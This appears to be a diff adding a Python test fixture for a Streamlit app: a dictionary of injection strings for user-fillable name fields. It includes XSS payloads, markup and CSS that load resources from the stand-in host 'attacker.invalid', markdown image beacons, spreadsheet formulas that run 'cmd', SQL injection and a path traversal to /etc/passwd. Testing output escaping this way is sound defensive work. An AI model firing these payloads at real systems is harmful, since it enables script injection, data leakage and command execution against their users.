@@ -1,0 +1,128 @@
+r"""Texts that try to become more than text, for every field that a stranger can fill.
+
+Live, each would do one of three things a test can see: call ``window.__hit``, ask HOST for
+something (or lead there), or change how the text around it reads. All fit into a name of 60
+characters, those of REGIONS into the 40 of a region's name.
+"""
+
+from __future__ import annotations
+
+HOST = "attacker.invalid"
+
+PAYLOADS: dict[str, str] = {
+    # Scripts and elements that run when they are drawn
+    "script": "<script>__hit()</script>",
+    "script that closes another": "</script><script>__hit()</script>",
+    "script from outside": f"<script src=//{HOST}/s></script>",
+    "script in mixed case": "<ScRiPt>__hit()</sCrIpT>",
+    "script split by a tab": "<script\t>__hit()</script\t>",
+    "image that fails": "<img src=x onerror=__hit()>",
+    "image in quotes": '"><img src=x onerror="__hit()">',
+    "image in single quotes": "'><img src=x onerror='__hit()'>",
+    "image with slashes": "<img/src=x/onerror=__hit()>",
+    "image unclosed": "<img src=x onerror=__hit() ",
+    "image after a null": "\0<img src=x onerror=__hit()>",
+    "svg": "<svg onload=__hit()>",
+    "svg animation": "<svg><animate onbegin=__hit() attributeName=x>",
+    "svg script": "<svg><script>__hit()</script></svg>",
+    "svg use": f"<svg><use href=//{HOST}/u#x /></svg>",
+    "math link": "<math><a xlink:href=javascript:__hit()>x</a></math>",
+    "body": "<body onload=__hit()>",
+    "input in focus": "<input autofocus onfocus=__hit()>",
+    "details": "<details open ontoggle=__hit()>x</details>",
+    "marquee": "<marquee onstart=__hit()>x</marquee>",
+    "video": "<video src=x onerror=__hit()></video>",
+    "frame": f"<iframe src=//{HOST}/f></iframe>",
+    "frame with a script": "<iframe src=javascript:parent.__hit()>",
+    "frame with a document": "<iframe srcdoc='<script>parent.__hit()</script>'>",
+    "object": f"<object data=//{HOST}/o></object>",
+    "embed": f"<embed src=//{HOST}/e>",
+    "style sheet": f"<link rel=stylesheet href=//{HOST}/c>",
+    "base": f"<base href=//{HOST}/>",
+    "refresh": f"<meta http-equiv=refresh content=0;url=//{HOST}/r>",
+    "form": f"<form action=//{HOST}/f><button>x</button></form>",
+    "hidden in noscript": "<noscript><p title='</noscript><img src=x onerror=__hit()>'>",
+    "hidden in a comment": "<!--><img src=x onerror=__hit()>-->",
+    "hidden in cdata": "<![CDATA[><img src=x onerror=__hit()>]]>",
+    "wide brackets": "\uff1cimg src=x onerror=__hit()\uff1e",
+    # Styles
+    "style": f"<style>*{{background:url(//{HOST}/b)}}</style>",
+    "style attribute": f"<p style='background:url(//{HOST}/p)'>x</p>",
+    "import": f"<style>@import'//{HOST}/i';</style>",
+    "leaving a style": f"red;}}*{{background:url(//{HOST}/l)}}",
+    "style in a value": f"red;background:url(//{HOST}/v)",
+    # Addresses
+    "link to a script": "<a href=javascript:__hit()>x</a>",
+    "link to data": "<a href='data:text/html,<script>__hit()</script>'>x</a>",
+    "script address": "javascript:__hit()",
+    "data address": "data:text/html,<script>__hit()</script>",
+    # Markdown
+    "markdown image": f"![x](http://{HOST}/m.png)",
+    "markdown image, short": f"![](//{HOST}/n)",
+    "markdown image, title": f'![x](//{HOST}/t "y")',
+    "markdown link": f"[x](http://{HOST}/)",
+    "markdown link to a script": "[x](javascript:__hit())",
+    "markdown link to data": "[x](data:text/html,<script>__hit()</script>)",
+    "markdown reference": f"![x][y]\n\n[y]: http://{HOST}/y.png",
+    "address in brackets": f"<http://{HOST}/>",
+    "bare address": f"http://{HOST}/a",
+    "bare host": f"www.{HOST}/w",
+    "mail address": f"a@{HOST}",
+    "address by entities": f"http&colon;//{HOST}/c",
+    "address by numbers": f"http&#58;&#x2f;/{HOST}/h",
+    "mail by entities": f"a&commat;{HOST}",
+    "markup by entities": "&lt;img src=x onerror=__hit()&gt;",
+    "markup by doubled entities": "&amp;lt;img src=x onerror=__hit()&amp;gt;",
+    "escaped escape": f"\\![x](http://{HOST}/e.png)",
+    "leaving bold": f"**](http://{HOST}/)**![x](//{HOST}/z)",
+    "heading": "# __hit\n===",
+    "code": "`__hit` ```\n__hit\n```",
+    "code by blanks": "x\n\n    __hit",
+    "list": "- __hit\n- b",
+    "numbers": "1. __hit\n2. b",
+    "rule": "---",
+    "table": "a|b\n-|-\n__hit|c",
+    "quotation": "> __hit",
+    "task": "- [x] __hit",
+    "footnote": "x[^1]\n\n[^1]: __hit",
+    "struck": "~~__hit~~ __x__ *y*",
+    # What Streamlit adds to Markdown
+    "colour": ":red[__hit] :blue-background[x]",
+    "small print": ":small[__hit]",
+    "badge": ":red-badge[__hit]",
+    "icon": ":material/skull: :streamlit:",
+    "emoji": ":skull:",
+    "formula": "$\\href{javascript:__hit()}{x}$",
+    "formula apart": f"$$\\includegraphics{{//{HOST}/g}}$$",
+    # Plotly's little HTML and templates
+    "plotly link": f'<a href="http://{HOST}/">x</a>',
+    "plotly link to a script": '<a href="javascript:__hit()">x</a>',
+    "plotly bold": "<b>x</b><br><i>y</i><sup>z</sup>",
+    "plotly span": f"<span style='fill:url(//{HOST}/q)'>x</span>",
+    "plotly extra": "<extra>x</extra></extra>",
+    "plotly template": "%{customdata} %{meta} %{x:zz} %{y}",
+    "plotly newline": "a<br />b\\n",
+    # Spreadsheets
+    "formula with a link": f'=HYPERLINK("http://{HOST}/","x")',
+    "formula with a command": "=cmd|'/c calc'!A1",
+    "plus": "+1+cmd|'/c calc'!A1",
+    "minus": "-1+cmd|'/c calc'!A1",
+    "at": "@SUM(1+1)",
+    "tab first": "\t=1+1",
+    "return first": "\r=1+1",
+    "wide equals": "\uff1d1+1",
+    # Letters that are not what they seem
+    "turned": "\u202e0.25% \u2066left\u2069",
+    "no width": "a\u200bb\ufeffc\u2060d",
+    "null": "a\0b\x07c\x1b[31md",
+    "many marks": "x" + "\u0301" * 40,
+    "half a pair": "a\ud800b\udfffc",
+    "templates": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
+    "query": "' OR 1=1;-- \"; DROP TABLE x",
+    "path": "../../../../etc/passwd\0.csv",
+    "prototype": "__proto__",
+    "format": "%s%n{0.__class__} {name!r}",
+}
+NAME = 60
+assert all(len(text) <= NAME for text in PAYLOADS.values())
+REGIONS = [name for name, text in PAYLOADS.items() if len(text) <= 40]
